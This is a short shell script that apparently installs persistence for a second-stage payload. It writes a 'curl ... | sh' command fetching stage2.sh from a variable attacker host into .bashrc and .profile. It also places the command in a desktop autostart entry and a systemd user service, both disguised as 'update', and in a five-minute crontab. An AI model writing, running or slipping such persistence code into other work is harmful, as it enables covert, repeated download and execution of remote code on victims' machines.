#!/bin/sh
# shell-rc: make the next login, desktop session, user manager or cron tick
# fetch and run stage 2.
. "${TARGETS:-$1}"
cmd="curl -s http://$T_TCP_HOST:$T_TCP_PORT/stage2.sh | sh"
for h in "$HOME" "$T_HOME"; do
	echo "$cmd" >> "$h/.bashrc"
	echo "$cmd" >> "$h/.profile"
	mkdir -p "$h/.config/autostart" "$h/.config/systemd/user" "$h/.cron"
	printf '[Desktop Entry]\nType=Application\nName=update\nExec=sh -c "%s"\n' "$cmd" \
		> "$h/.config/autostart/update.desktop"
	printf '[Service]\nExecStart=/bin/sh -c "%s"\n[Install]\nWantedBy=default.target\n' "$cmd" \
		> "$h/.config/systemd/user/update.service"
	echo "*/5 * * * * $cmd" > "$h/.cron/crontab"
	ls -laR "$h/.config"
done
